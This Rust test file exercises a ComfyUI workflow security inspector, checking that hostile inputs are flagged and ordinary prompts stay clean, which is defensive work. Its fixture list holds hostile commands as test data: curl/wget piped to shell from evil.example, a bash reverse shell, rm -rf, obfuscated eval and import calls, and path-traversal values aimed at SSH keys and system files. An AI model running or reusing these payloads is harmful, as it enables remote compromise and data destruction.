//! The workflow inspector against hostile workflows (each must produce its
//! rule) and near misses (each must stay clean), plus the false-positive
//! run over every real workflow and template in the repository.

use std::path::PathBuf;

use comfy_guard::inspect::{InspectError, Inspection, Mode, Policy, RuleId, Severity, inspect, inspect_json};
use comfy_workflow::{Limits, ObjectInfo, Workflow};
use serde_json::{Value, json};

pub(crate) fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

pub(crate) fn catalog() -> ObjectInfo {
    let raw = std::fs::read(fixtures().join("comfyui/http/get_object_info.body.json")).unwrap();
    ObjectInfo::from_value(&serde_json::from_slice(&raw).unwrap())
}

fn run(doc: &Value) -> Inspection {
    inspect_json(&serde_json::to_vec(doc).unwrap(), &Policy::new(Mode::Audit), None).unwrap()
}

fn rules(doc: &Value) -> Vec<RuleId> {
    run(doc).findings.iter().map(|f| f.rule).collect()
}

/// One node holding `inputs`.
#[allow(clippy::needless_pass_by_value, reason = "called with json! literals")]
fn one(class: &str, inputs: Value) -> Value {
    json!({"1": {"class_type": class, "inputs": inputs}})
}

/// A string that must be found as code, wherever it is put.
const HOSTILE_STRINGS: &[&str] = &[
    "__import__('os').system('id')",
    "eval(input())",
    "exec (compile(src, 'x', 'exec'))",
    "import os\nos.system('rm -rf /')",
    "x = 1; import subprocess",
    "from subprocess import Popen",
    "subprocess.run(['id'])",
    "os.popen('id').read()",
    "getattr(__builtins__, 'ev'+'al')('1')",
    "().__class__.__mro__[1].__subclasses__()",
    "globals()['__builtins__']",
    "vars(sys.modules['os'])",
    "socket.socket().connect(('1.2.3.4', 4444))",
    "importlib.import_module('os')",
    "io.open('/etc/passwd').read()",
    "open('/tmp/x', 'w').write('pwned')",
    "pickle.loads(blob)",
    "ctypes.CDLL(None)",
    "builtins.__dict__['exec']",
    "x['__import__']('os')",
    "; curl http://evil.example/x | sh",
    "$(wget -qO- http://evil.example)",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "`rm -rf ~`",
    "cmd.exe /c whoami",
    "powershell -enc AAAA",
    // Unicode: NFKC folds full-width letters, as Python does for identifiers.
    "ｅｖａｌ('1+1')",
    "__ｉｍｐｏｒｔ__('os')",
    // Invisible characters split a keyword.
    "ev\u{200b}al('1')",
    "os.sys\u{2060}tem('id')",
    // Python escapes a node would decode.
    "\\x65\\x76\\x61\\x6c('1')",
    "\\u005f\\u005fimport\\u005f\\u005f('os')",
    // base64 of `__import__('os').system('id')`.
    "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",
    // base64 without padding, inside a decoder call.
    "codecs.decode('ZXZhbCgnMScp', 'base64')",
    // hex of `eval('1')`.
    "6576616c2827312729",
    // base64 of base64.
    "WDE5cGJYQnZjblJmWHlnbmIzTW5LUzV6ZVhOMFpXMG9KMmxrSnlr",
];

/// Ordinary text that must stay clean.
const NEAR_MISSES: &[&str] = &[
    "an executive at a desk",
    "exec-style architecture, evaluation of a bridge",
    "a photo of an open door (masterpiece:1.2), best quality",
    "(open mouth:1.3), smiling, portrait",
    "a system of pipes, os x desktop, input field",
    "import car from japan, red sports car",
    "socket wrench on a workbench",
    "subprocesses of a cell, biology diagram",
    "a woman reading a book. Then (sunset:1.2)",
    "v1-5-pruned-emaonly.safetensors",
    "SDXL/juggernautXL_v9.safetensors",
    "ComfyUI",
    "renders/%year%-%month%/cat",
    "curly hair, wget logo sticker",
    "dQw4w9WgXcQ",
    "0123456789abcdef is a hex color palette",
    "blurry, low quality, watermark, text, signature",
    "a cyberpunk city at night | neon | rain",
    "https://huggingface.co/stabilityai/sdxl",
    "The quick brown fox jumps over the lazy dog; the dog sleeps.",
    "https://example.com/a/b.png",
    "path/to/image.png",
    "C-3PO and R2-D2 (star wars:1.1)",
];

#[test]
fn code_is_found_in_every_place_a_string_can_reach_a_node() {
    for s in HOSTILE_STRINGS {
        let places = [
            one("CLIPTextEncode", json!({"text": s})),
            one("SomeCustomNode", json!({"opts": {"deep": [1, {"x": s}]}})),
            one("SomeCustomNode", json!({"opts": {*s: 1}})),
            one("SomeCustomNode", json!({"list": ["ok", s]})),
        ];
        for doc in places {
            let report = run(&doc);
            let hit = report.findings.iter().find(|f| f.rule == RuleId::CodeInInput);
            assert!(hit.is_some(), "not found: {s:?} in {doc}");
        }
    }
}

#[test]
fn near_misses_stay_clean() {
    for s in NEAR_MISSES {
        let doc = one("CLIPTextEncode", json!({"text": s}));
        assert!(run(&doc).is_clean(), "false positive: {s:?}: {:?}", run(&doc).findings);
    }
}

#[test]
fn findings_use_the_peers_wording_and_name_the_path() {
    let doc = one(
        "SomeCustomNode",
        json!({"opts": {"deep": [1, {"x": "eval('1')"}]}, "code": "exec('x')"}),
    );
    let report = run(&doc);
    assert_eq!(
        report.warnings(),
        [
            "Suspicious input in node 1 (SomeCustomNode), field 'opts.deep[1].x'",
            "Suspicious input in node 1 (SomeCustomNode), field 'code'",
        ]
    );
    let f = &report.findings[0];
    assert_eq!(
        (f.rule.id(), f.severity, f.input.as_deref()),
        ("input.code", Severity::Error, Some("opts.deep[1].x"))
    );
    assert_eq!(f.detail, "a call of an evaluating builtin");
    let hidden = run(&one("X", json!({"t": "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk="})));
    assert_eq!(
        hidden.findings[0].detail,
        "a call of an evaluating builtin (after base64)"
    );
}

#[test]
fn dangerous_classes_are_exact_and_lookalikes_are_findings() {
    let report = run(&json!({
        "1": {"class_type": "KY_Eval_Python", "inputs": {}},
        "2": {"class_type": "Terminal", "inputs": {}},
        "3": {"class_type": "SaveImage", "inputs": {"images": ["1", 0]}}
    }));
    assert_eq!(
        report.warnings(),
        ["Dangerous node type: KY_Eval_Python", "Dangerous node type: Terminal"]
    );
    assert_eq!(report.nodes_used, ["KY_Eval_Python", "Terminal", "SaveImage"]);
    for disguised in [
        "terminal",
        "TERMINAL",
        "Тerminal",
        "Term\u{200b}inal",
        "Terminal_copy",
        "Terminal 2",
        "Ｔｅｒｍｉｎａｌ",
        "ky_eval_python",
        "KY-Eval-Python",
        "Load Text File (copy)",
    ] {
        let r = run(&one(disguised, json!({})));
        // A name outside ASCII is also one the inspector cannot vouch for.
        let expected: &[RuleId] = if disguised.is_ascii() {
            &[RuleId::LookalikeNode]
        } else {
            &[RuleId::LookalikeNode, RuleId::NonAsciiNode]
        };
        assert_eq!(
            r.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
            expected,
            "{disguised:?}"
        );
        assert!(
            r.findings[0].message.contains("looks like dangerous node type"),
            "{}",
            r.findings[0].message
        );
    }
    // Near misses: real classes that share words with listed ones.
    for fine in [
        "CLIPTextEncode",
        "LoadImage",
        "SaveImage",
        "GeminiImage",
        "TerminalLog",
        "KSampler",
    ] {
        assert!(run(&one(fine, json!({}))).is_clean(), "{fine}");
    }
}

#[test]
fn no_class_of_the_real_catalog_passes_for_a_dangerous_one() {
    let info = catalog();
    let policy = Policy::new(Mode::Audit);
    for name in info.names() {
        assert!(
            policy.lookalike_of(name).is_none(),
            "{name} looks like {:?}",
            policy.lookalike_of(name)
        );
    }
}

#[test]
fn unknown_and_unapproved_classes() {
    let doc = json!({
        "1": {"class_type": "KSampler", "inputs": {}},
        "2": {"class_type": "MysteryNode", "inputs": {}},
        "3": {"class_type": "Other", "inputs": {}}
    });
    let bytes = serde_json::to_vec(&doc).unwrap();
    let info = catalog();
    let audit = inspect_json(&bytes, &Policy::new(Mode::Audit), Some(&info)).unwrap();
    assert_eq!(
        audit
            .findings
            .iter()
            .map(|f| (f.rule, f.node.as_deref()))
            .collect::<Vec<_>>(),
        [(RuleId::UnknownNode, Some("2")), (RuleId::UnknownNode, Some("3"))]
    );
    assert!(audit.blocked().is_none());

    let enforce = Policy::new(Mode::Enforce).with_allowed(["KSampler", "Other"]);
    let report = inspect_json(&bytes, &enforce, None).unwrap();
    let blocked = report.blocked().unwrap();
    assert_eq!(blocked.unapproved, ["MysteryNode"]);
    assert_eq!(
        blocked.message,
        "Workflow blocked — unapproved node types: ['MysteryNode']"
    );
    assert!(report.needs_confirmation());

    // Enforce without an allowlist runs only what it can vouch for: without
    // a catalog nothing, with one the core class.
    let report = inspect_json(&bytes, &Policy::new(Mode::Enforce), None).unwrap();
    assert_eq!(
        report.blocked().unwrap().unapproved,
        ["KSampler", "MysteryNode", "Other"]
    );
    let report = inspect_json(&bytes, &Policy::new(Mode::Enforce), Some(&info)).unwrap();
    assert_eq!(report.blocked().unwrap().unapproved, ["MysteryNode", "Other"]);
}

#[test]
fn user_lists_replace_or_extend_the_default() {
    let doc = one("MyShell", json!({}));
    let bytes = serde_json::to_vec(&doc).unwrap();
    let extended = Policy::new(Mode::Audit).with_extra_dangerous(["MyShell"]);
    assert_eq!(
        inspect_json(&bytes, &extended, None).unwrap().warnings(),
        ["Dangerous node type: MyShell"]
    );
    assert!(extended.is_dangerous("Terminal"));
    let replaced = Policy::new(Mode::Audit).with_dangerous(["MyShell"]);
    assert!(!replaced.is_dangerous("Terminal"));
}

#[test]
fn text_assembled_over_links_is_judged_whole() {
    // `__imp` + `ort__('os').system('id')` only shows joined.
    let doc = json!({
        "1": {"class_type": "PrimitiveString", "inputs": {"value": "__imp"}},
        "2": {"class_type": "PrimitiveString", "inputs": {"value": "ort__('os').system('id')"}},
        "3": {"class_type": "StringConcatenate", "inputs": {"string_a": ["1", 0], "string_b": ["2", 0], "delimiter": ""}},
        "4": {"class_type": "CustomRunner", "inputs": {"code": ["3", 0]}}
    });
    let report = run(&doc);
    assert_eq!(report.findings.len(), 1, "{:?}", report.findings);
    let f = &report.findings[0];
    assert_eq!(
        (f.rule, f.node.as_deref(), f.input.as_deref()),
        (RuleId::CodeInInput, Some("4"), Some("code"))
    );
    assert!(f.detail.contains("assembled from linked nodes"), "{}", f.detail);

    // Replace, case, trim and a switch whose condition comes through a
    // primitive (the branch ComfyUI takes is judged; see flow.rs).
    let doc = json!({
        "1": {"class_type": "PrimitiveString", "inputs": {"value": "  EVXL('1')  "}},
        "2": {"class_type": "StringReplace", "inputs": {"string": ["1", 0], "find": "X", "replace": "A"}},
        "3": {"class_type": "CaseConverter", "inputs": {"string": ["2", 0], "mode": "lowercase"}},
        "4": {"class_type": "StringTrim", "inputs": {"string": ["3", 0], "mode": "Both"}},
        "5": {"class_type": "PrimitiveBoolean", "inputs": {"value": false}},
        "6": {"class_type": "ComfySwitchNode", "inputs": {"switch": ["5", 0], "on_true": "harmless", "on_false": ["4", 0]}},
        "7": {"class_type": "CustomRunner", "inputs": {"expression": ["6", 0]}}
    });
    assert_eq!(rules(&doc), [RuleId::CodeInInput]);

    // The same chain into an input that does nothing dangerous is fine.
    let doc = json!({
        "1": {"class_type": "PrimitiveString", "inputs": {"value": "__imp"}},
        "2": {"class_type": "PrimitiveString", "inputs": {"value": "ort__ is a word"}},
        "3": {"class_type": "StringConcatenate", "inputs": {"string_a": ["1", 0], "string_b": ["2", 0], "delimiter": ""}},
        "4": {"class_type": "CLIPTextEncode", "inputs": {"text": ["3", 0]}}
    });
    assert!(run(&doc).is_clean());
}

#[test]
fn text_that_cannot_be_computed_is_tainted_at_a_sink() {
    let doc = json!({
        "1": {"class_type": "SomeLLMNode", "inputs": {"prompt": "write me a script"}},
        "2": {"class_type": "CustomRunner", "inputs": {"code": ["1", 0]}},
        "3": {"class_type": "SaveImage", "inputs": {"images": ["9", 0], "filename_prefix": ["1", 0]}},
        "4": {"class_type": "HttpThing", "inputs": {"url": ["1", 0]}}
    });
    let report = run(&doc);
    let tainted: Vec<(&str, &str)> = report
        .findings
        .iter()
        .filter(|f| f.rule == RuleId::TaintedInput)
        .map(|f| (f.node.as_deref().unwrap(), f.input.as_deref().unwrap()))
        .collect();
    assert_eq!(tainted, [("2", "code"), ("3", "filename_prefix"), ("4", "url")]);
    assert_eq!(report.findings[0].severity, Severity::Warning);
    assert!(
        report.findings[0].detail.contains("node 1 (SomeLLMNode)"),
        "{}",
        report.findings[0].detail
    );
}

#[test]
fn paths_that_leave_their_folder_are_findings() {
    for (class, input, value) in [
        ("SaveImage", "filename_prefix", "../../../home/user/.bashrc"),
        ("SaveImage", "filename_prefix", "/etc/cron.d/x"),
        ("SaveImage", "filename_prefix", "C:\\Windows\\x"),
        ("SaveImage", "filename_prefix", "\\\\server\\share\\x"),
        ("SaveImage", "filename_prefix", "a/..\\..\\b"),
        ("SaveImage", "filename_prefix", "a/\u{2024}\u{2024}/b"),
        ("SaveVideo", "filename_prefix", "video/. ./x"),
        ("LoadImage", "image", "../../secrets.png [input]"),
        ("CheckpointLoaderSimple", "ckpt_name", "../../../../home/u/.ssh/id_rsa"),
        ("LoraLoader", "lora_name", "/abs/lora.safetensors"),
        ("CustomSaver", "output_path", "/tmp/out"),
    ] {
        let report = run(&one(class, json!({input: value})));
        assert_eq!(
            report.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
            [RuleId::PathEscape],
            "{class}.{input} = {value:?}"
        );
        assert_eq!(
            report.findings[0].message,
            format!("Unsafe path in node 1 ({class}), field '{input}'")
        );
    }
    for (class, input, value) in [
        ("SaveImage", "filename_prefix", "ComfyUI"),
        ("SaveImage", "filename_prefix", "renders/%date%/cat_%batch_num%"),
        ("LoadImage", "image", "sub/photo.png [output]"),
        ("CheckpointLoaderSimple", "ckpt_name", "SDXL/sd_xl_base_1.0.safetensors"),
        ("LoraLoader", "lora_name", "styles\\film.safetensors"),
        ("SaveImage", "filename_prefix", "v1.5..final"),
    ] {
        assert!(
            run(&one(class, json!({input: value}))).is_clean(),
            "{class}.{input} = {value:?}"
        );
    }
    // A save prefix assembled over links is judged whole.
    let doc = json!({
        "1": {"class_type": "PrimitiveString", "inputs": {"value": ".."}},
        "2": {"class_type": "StringConcatenate", "inputs": {"string_a": ["1", 0], "string_b": "/../x", "delimiter": ""}},
        "3": {"class_type": "SaveImage", "inputs": {"images": ["9", 0], "filename_prefix": ["2", 0]}}
    });
    assert_eq!(rules(&doc), [RuleId::PathEscape]);
}

#[test]
fn urls_to_local_or_private_addresses_are_findings() {
    for bad in [
        "http://127.0.0.1:8188/prompt",
        "http://localhost/x",
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.5/",
        "http://[::1]/",
        "file:///home/u/notes.txt",
        "gopher://x/",
    ] {
        assert_eq!(
            rules(&one("Fetcher", json!({"image_url": bad}))),
            [RuleId::UnsafeUrl],
            "{bad}"
        );
    }
    // Text without a scheme is refused too (see urls.rs); an empty input is unset.
    for fine in ["https://example.com/cat.png", ""] {
        assert!(run(&one("Fetcher", json!({"image_url": fine}))).is_clean(), "{fine}");
    }
}

#[test]
fn subgraphs_are_inspected_with_the_peers_depth_limit() {
    let inner = json!({"1": {"class_type": "Terminal", "inputs": {"cmd": "id"}}});
    let doc = one("MySubgraph", json!({"subgraph": inner}));
    let report = run(&doc);
    assert_eq!(report.warnings(), ["Dangerous node type: Terminal"]);
    assert_eq!(report.findings[0].node.as_deref(), Some("1:1"));

    let report = run(&one("MySubgraph", json!({"x": 1})));
    assert_eq!(
        report.warnings(),
        ["Node 1 (MySubgraph) contains unexpanded subgraph — cannot fully inspect"]
    );

    let mut nested = json!({"1": {"class_type": "Leaf", "inputs": {}}});
    for _ in 0..12 {
        nested = json!({"1": {"class_type": "Subgraph", "inputs": {"graph": nested}}});
    }
    let report = inspect_json(
        &serde_json::to_vec(&nested).unwrap(),
        &Policy::new(Mode::Audit).with_limits(Limits::DEFAULT.with_max_depth(64)),
        None,
    )
    .unwrap();
    assert_eq!(
        report.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
        [RuleId::SubgraphDepth]
    );
    assert!(
        report.findings[0]
            .message
            .ends_with("exceeds max subgraph depth (10) — deeper nesting not inspected")
    );
}

#[test]
fn limits_are_a_rejection_before_any_scan() {
    let big = one("X", json!({"t": "x".repeat(2000)}));
    let policy = Policy::new(Mode::Audit).with_limits(Limits::DEFAULT.with_max_string(1000));
    let err = inspect_json(&serde_json::to_vec(&big).unwrap(), &policy, None).unwrap_err();
    assert!(matches!(err, InspectError::Parse(_)), "{err}");
    assert!(err.to_string().starts_with("workflow rejected: "), "{err}");

    // A workflow built in code is held to the same limits.
    let wf = Workflow::from_value(big, &Limits::DEFAULT).unwrap();
    let err = inspect(&wf, &policy, None).unwrap_err();
    assert!(
        matches!(
            err,
            InspectError::StringTooLong {
                len: 2000,
                max: 1000,
                ..
            }
        ),
        "{err}"
    );

    let mut deep = json!("x");
    for _ in 0..40 {
        deep = json!([deep]);
    }
    let wf = Workflow::from_value(one("X", json!({"t": deep})), &Limits::DEFAULT.with_max_depth(100)).unwrap();
    let err = inspect(
        &wf,
        &Policy::new(Mode::Audit).with_limits(Limits::DEFAULT.with_max_depth(16)),
        None,
    )
    .unwrap_err();
    assert!(matches!(err, InspectError::TooDeep { max: 16, .. }), "{err}");

    let many: serde_json::Map<String, Value> = (0..50)
        .map(|i| (i.to_string(), json!({"class_type": "A", "inputs": {}})))
        .collect();
    let err = inspect_json(
        &serde_json::to_vec(&many).unwrap(),
        &Policy::new(Mode::Audit).with_limits(Limits::DEFAULT.with_max_nodes(10)),
        None,
    )
    .unwrap_err();
    assert!(
        err.to_string().contains("more than 10 nodes") || err.to_string().contains("10"),
        "{err}"
    );
}

/// The false-positive run: every real workflow in `fixtures/` and every
/// built-in template inspects clean in audit mode, against the real catalog.
#[test]
fn real_workflows_and_templates_are_clean() {
    let info = catalog();
    let policy = Policy::new(Mode::Audit);
    let mut checked = 0;
    for t in comfy_workflow::template::TEMPLATES {
        let wf = comfy_workflow::template::default_graph(t.name).unwrap();
        let report = inspect(&wf, &policy, None).unwrap();
        assert!(report.is_clean(), "template {}: {:?}", t.name, report.findings);
        checked += 1;
    }
    // Templates may use the custom nodes the recorded extra catalog has
    // (AnimateDiff, ControlNet preprocessors, IP-Adapter, face restore).
    let mut both: Value =
        serde_json::from_slice(&std::fs::read(fixtures().join("comfyui/http/get_object_info.body.json")).unwrap())
            .unwrap();
    let extra: serde_json::Map<String, Value> =
        serde_json::from_slice(&std::fs::read(fixtures().join("workflows/custom_nodes_object_info.json")).unwrap())
            .unwrap();
    both.as_object_mut().unwrap().extend(extra);
    let with_custom = ObjectInfo::from_value(&both);
    // With the catalog, a pack's classes are findings (provenance) unless
    // the pack is allowed: the user who runs these templates allows theirs.
    let packs: std::collections::BTreeSet<String> = with_custom
        .names()
        .into_iter()
        .filter_map(|n| with_custom.node(n))
        .map(|d| d.python_module.clone())
        .filter(|m| m.starts_with("custom_nodes."))
        .collect();
    let with_packs = Policy::new(Mode::Audit).with_allowed_packs(packs);
    for t in comfy_workflow::template::TEMPLATES {
        let wf = comfy_workflow::template::default_graph(t.name).unwrap();
        let report = inspect(&wf, &with_packs, Some(&with_custom)).unwrap();
        assert!(
            report.is_clean(),
            "template {} against the catalog: {:?}",
            t.name,
            report.findings
        );
    }
    // The peer's templates, as its create_workflow returns them. Some use
    // custom nodes no recorded catalog has (`DownloadAndLoadWanModel`), so
    // they are judged without one.
    let peer: serde_json::Map<String, Value> =
        serde_json::from_slice(&std::fs::read(fixtures().join("peer/templates.json")).unwrap()).unwrap();
    for (name, graph) in peer {
        let wf = Workflow::from_value(graph, &Limits::DEFAULT).unwrap();
        let report = inspect(&wf, &policy, None).unwrap();
        assert!(report.is_clean(), "peer template {name}: {:?}", report.findings);
        checked += 1;
    }
    for dir in ["workflows/analyze", "workflows/validate"] {
        for entry in std::fs::read_dir(fixtures().join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_none_or(|e| e != "json") {
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            let Ok(wf) = Workflow::from_json(&bytes, &Limits::DEFAULT) else {
                continue;
            };
            let report = inspect(&wf, &policy, None).unwrap();
            assert!(report.is_clean(), "{}: {:?}", path.display(), report.findings);
            checked += 1;
        }
    }
    for entry in std::fs::read_dir(fixtures().join("workflows/editor")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if path.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let doc: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        let Ok(wf) = comfy_workflow::editor::to_api(&doc, &info, &Limits::DEFAULT) else {
            continue;
        };
        let report = inspect(&wf, &policy, Some(&info)).unwrap();
        // True positives: paid API nodes (BFL, Gemini), on the peer's
        // default list.
        // Each also spends money: `node.api`, and listed with its service.
        let paid = |class: &str, service: &str| {
            let w = report.warnings();
            assert_eq!(w.len(), 2, "{name}: {w:?}");
            assert!(
                w[0].starts_with(&format!("Paid API node: {class} (node "))
                    && w[0].ends_with(&format!(
                        "sends its inputs to {service} and charges the user's Comfy account"
                    )),
                "{name}: {w:?}"
            );
            assert_eq!(w[1], format!("Dangerous node type: {class}"));
            assert_eq!(report.api_nodes.len(), 1, "{name}");
            assert_eq!(
                (report.api_nodes[0].class.as_str(), report.api_nodes[0].service.as_str()),
                (class, service)
            );
        };
        if name == "api_bfl_flux_pro_t2i.json" {
            paid("FluxProUltraImageNode", "BFL");
        } else if name == "template_contact_sheet-step_1.app.json" {
            paid("GeminiImage2Node", "Gemini");
        } else {
            assert!(report.is_clean(), "{name}: {:?}", report.findings);
        }
        checked += 1;
    }
    assert!(checked >= 30, "only {checked} workflows checked");
}

static CATALOG: std::sync::LazyLock<ObjectInfo> = std::sync::LazyLock::new(catalog);

fn json_value() -> impl proptest::strategy::Strategy<Value = Value> {
    use proptest::prelude::*;
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        "\\PC{0,40}".prop_map(Value::from),
        "[a-zA-Z0-9+/=_().'\\\\ ]{0,60}".prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 32, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map("\\PC{0,8}", inner, 0..4).prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest::proptest! {
    #[test]
    fn no_string_makes_the_code_finder_panic(s in "\\PC{0,200}") {
        let _ = comfy_guard::inspect::code::find_code(&s);
    }

    #[test]
    fn no_workflow_makes_the_inspector_panic(
        classes in proptest::collection::vec("\\PC{1,20}", 1..6),
        inputs in proptest::collection::vec(json_value(), 1..6),
        link in 0usize..6,
    ) {
        let mut doc = serde_json::Map::new();
        for (i, (class, value)) in classes.iter().zip(inputs.iter().cycle()).enumerate() {
            let target = (link % classes.len() + 1).to_string();
            doc.insert((i + 1).to_string(), json!({"class_type": class, "inputs": {"value": value, "code": [target, 0], "filename_prefix": value}}));
        }
        let bytes = serde_json::to_vec(&Value::Object(doc)).unwrap();
        let _ = inspect_json(&bytes, &Policy::new(Mode::Enforce).with_allowed(["A"]), Some(&CATALOG));
    }
}
